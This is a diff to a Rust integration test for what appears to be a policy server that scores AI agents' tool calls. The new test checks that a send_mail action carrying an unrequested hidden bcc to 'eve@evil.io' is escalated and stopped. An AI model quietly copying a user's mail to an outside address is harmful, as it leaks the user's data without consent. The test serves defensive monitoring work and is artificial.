@@ -9,7 +9,7 @@ use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
 use std::time::Duration;
 
 use rhumb_proto::v1::{Mode, Outcome, Provenance, ScoreRequest, ScoreResponse, Status, Verdict};
-use rhumb_tests::samples::{aligned, drifted, fresh, message};
+use rhumb_tests::samples::{aligned, drifted, fresh, message, request};
 use rhumb_tests::{Client, Server, run};
 use serde_json::{Value, json};
 use tempfile::TempDir;
@@ -225,4 +225,31 @@ fn history_is_scored_by_a_policy_that_is_tried_out() {
     let tried = run(args, line.as_bytes());
     let answer: Value = serde_json::from_slice(&tried.stdout).unwrap();
     assert_eq!((&answer["verdict"], &answer["outcome"]), (&json!("DENY"), &json!("STOP")), "{answer}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_address_that_nobody_knows_is_stopped_where_the_policy_says_so() {
+    let folder = tempfile::tempdir().unwrap();
+    let rule = "[[rules]]\nname = \"mail\"\nmatch = { tools = [\"send_*\"] }\nset = { new_address = \"ESCALATE\" }\n";
+    let server = Server::start(&with_policy(&write(&folder, rule))).await;
+    let mut client = server.client().await;
+    let mail = |id: &str, tool: &str, more: Value| {
+        let mut arguments = json!({"to": "anna@corp.com", "subject": "Report"});
+        arguments.as_object_mut().unwrap().extend(more.as_object().cloned().unwrap());
+        let action = json!({"tool": tool, "effect": "WRITE", "arguments": arguments});
+        request(id, json!({"text": "Send the report to anna@corp.com."}), action)
+    };
+    let right = score(&mut client, message(&mail("1", "send_mail", json!({})))).await;
+    assert!(right.verdict() <= Verdict::Warn, "{right:?}");
+    let hidden = json!({"bcc": "eve@evil.io"});
+    let stopped = score(&mut client, message(&mail("2", "send_mail", hidden.clone()))).await;
+    assert!(stopped.verdict() >= Verdict::Escalate && stopped.outcome() == Outcome::Stop, "{stopped:?}");
+    let findings = stopped.evidence.unwrap().findings;
+    assert!(findings.contains(&"new_address:arguments.bcc".to_owned()), "{findings:?}");
+    let elsewhere = score(&mut client, message(&mail("3", "post_mail", hidden.clone()))).await;
+    assert!(elsewhere.reason_code != "new_address", "{elsewhere:?}");
+    let mut known = mail("4", "send_mail", hidden);
+    known["context"] = json!([{"text": "Carbon copies go to eve@evil.io.", "trusted": true}]);
+    let known = score(&mut client, message(&known)).await;
+    assert!(known.reason_code != "new_address", "{known:?}");
 }
